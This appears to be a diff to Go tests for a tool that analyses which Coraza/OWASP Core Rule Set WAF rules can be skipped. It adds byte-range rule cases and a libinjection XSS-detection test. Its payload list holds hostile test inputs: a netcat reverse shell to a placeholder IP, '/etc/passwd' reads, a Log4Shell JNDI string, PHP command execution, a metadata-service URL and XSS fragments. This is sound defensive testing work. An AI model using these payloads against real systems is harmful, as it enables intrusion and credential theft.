@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"io"
 	"io/fs"
+	"math/rand/v2"
 	"net/http"
 	"net/url"
 	"reflect"
@@ -17,6 +18,7 @@ import (
 	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
 	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
 	"github.com/corazawaf/coraza/v3/types"
+	"github.com/corazawaf/libinjection-go"
 )
 
 var (
@@ -102,6 +104,7 @@ var gatePayloads = []string{
 	"; cat /etc/passwd", "busybox nc -e /bin/sh 1.2.3.4", "alias ls=rm", "$(whoami)", "`id`", "| powershell -enc abc",
 	"${jndi:ldap://x/a}", "{{config.__class__}}", "require('child_process').exec('id')",
 	"http://169.254.169.254/latest/meta-data/", "O:8:\"stdClass\":0:{}", "<?php system('id'); ?>",
+	"ds\x001", // 920270: @validateByteRange 1-255
 }
 
 // placements put a value where CRS reads it.
@@ -274,10 +277,15 @@ func TestGateRemoves(t *testing.T) {
 		942360: false, // "char" in "charges"
 		949110: false, // the anomaly evaluation (@ge): not covered
 		920540: false, // in 920539's skip window
+		920270: true,  // no byte outside 1-255, no percent or plus sign for urlDecodeUni
+		930110: true,  // no two of a dot's spellings in a row ({2,3}: pairs)
 	} {
 		if job[id] != want {
 			t.Errorf("JSON job: rule %d removed %v, want %v", id, job[id], want)
 		}
+	}
+	if nul := removed(jsonReq("POST", "/v1/jobs", `{"dataset":"ds\u00001"}`)); nul[920270] {
+		t.Error("a NUL byte in a JSON value: rule 920270 (@validateByteRange 1-255) removed")
 	}
 	sqli := removed(jsonReq("POST", "/v1/jobs", `{"dataset":"1 union select password from users"}`))
 	for _, id := range []int{942100, 942270, 942190} {
@@ -408,7 +416,10 @@ func TestGateRefuses(t *testing.T) {
 		{"ARGS", "!@rx union", "id:1,phase:2", "negated"},
 		{"ARGS", "@rx .*", "id:1,phase:2", "no literals"},
 		{"TX:foo", "@rx union", "id:1,phase:2", "variable TX"},
-		{"ARGS", "@validateByteRange 1-255", "id:1,phase:2", "operator validateByteRange"},
+		{"ARGS", "@validateByteRange 1-255", "id:1,phase:2,t:urlDecodeUni", ""},
+		{"ARGS", "@validateByteRange 1-256", "id:1,phase:2", "byte range: byte 256 out of range"},
+		{"ARGS", "@validateByteRange 1-x", "id:1,phase:2", `byte range: strconv.Atoi: parsing "x": invalid syntax`},
+		{"ARGS", "@validateByteRange 32-126", "id:1,phase:2,t:base64Decode", "transformation base64Decode"},
 		{"ARGS", "@pm a  b", "id:1,phase:2", "empty phrase"},
 	} {
 		raw := `SecRule ` + c.vars + ` "` + c.op + `" "` + c.actions + `"`
@@ -442,3 +453,63 @@ func (r fakeRule) ID() int                { return r.id }
 func (r fakeRule) Raw() string            { return r.raw }
 func (r fakeRule) Phase() types.RulePhase { return types.PhaseRequestBody }
 func (r fakeRule) Tags() []string         { return nil }
+
+// strip drops the bytes of s from v.
+func strip(v string, s byteSet) string {
+	return strings.Map(func(r rune) rune {
+		if r < 0x80 && s.has(byte(r)) {
+			return -1
+		}
+		return r
+	}, v)
+}
+
+// libinjection's IsXSS finds nothing in a value without a byte of
+// xssNeeds: the corpus and XSS fragments with those bytes dropped, and
+// random strings of the fragments and every other byte. And '<' and '='
+// are each one a payload needs (the set says something; the others are
+// kept for safety).
+func TestXSSNeeds(t *testing.T) {
+	frags := []string{"javascript:", "vbscript:", "data:text/html", "onerror", "onload", "style", "srcdoc", "href",
+		"script", "alert(1)", "expression(", "&#x3c;", "&lt;", "!doctype", "!--", "?xml", "![cdata[", "\x00", " ", "\t",
+		"\n", "\x0b", "\f", "\r", "iframe", "svg", "xmlns", "formaction", "-->", "\\", "%3c", "+", ";", "&", "`"}
+	for b := 0; b < 256; b++ {
+		frags = append(frags, string(rune(b)), string([]byte{byte(b)}))
+	}
+	var vals []string
+	for _, v := range append(corpus(), frags...) {
+		vals = append(vals, strip(v, xssNeeds))
+	}
+	rnd := rand.New(rand.NewPCG(1, 2))
+	for range 20000 {
+		var b strings.Builder
+		for range 1 + rnd.IntN(8) {
+			b.WriteString(frags[rnd.IntN(len(frags))])
+		}
+		vals = append(vals, strip(b.String(), xssNeeds))
+	}
+	for _, v := range vals {
+		if holds(v, xssNeeds) {
+			t.Fatalf("%q: not stripped", v)
+		}
+		if libinjection.IsXSS(v) {
+			t.Errorf("IsXSS(%q) without a byte of xssNeeds", v)
+		}
+	}
+	for _, c := range []struct {
+		v    string
+		need byte
+	}{
+		{"<script>alert(1)</script>", '<'},
+		{"x onerror=alert(1)", '='},
+	} {
+		if !libinjection.IsXSS(c.v) {
+			t.Errorf("IsXSS(%q) false", c.v)
+		}
+		var one byteSet
+		one.add(c.need)
+		if libinjection.IsXSS(strip(c.v, one)) {
+			t.Errorf("IsXSS(%q) true without %q", strip(c.v, one), c.need)
+		}
+	}
+}
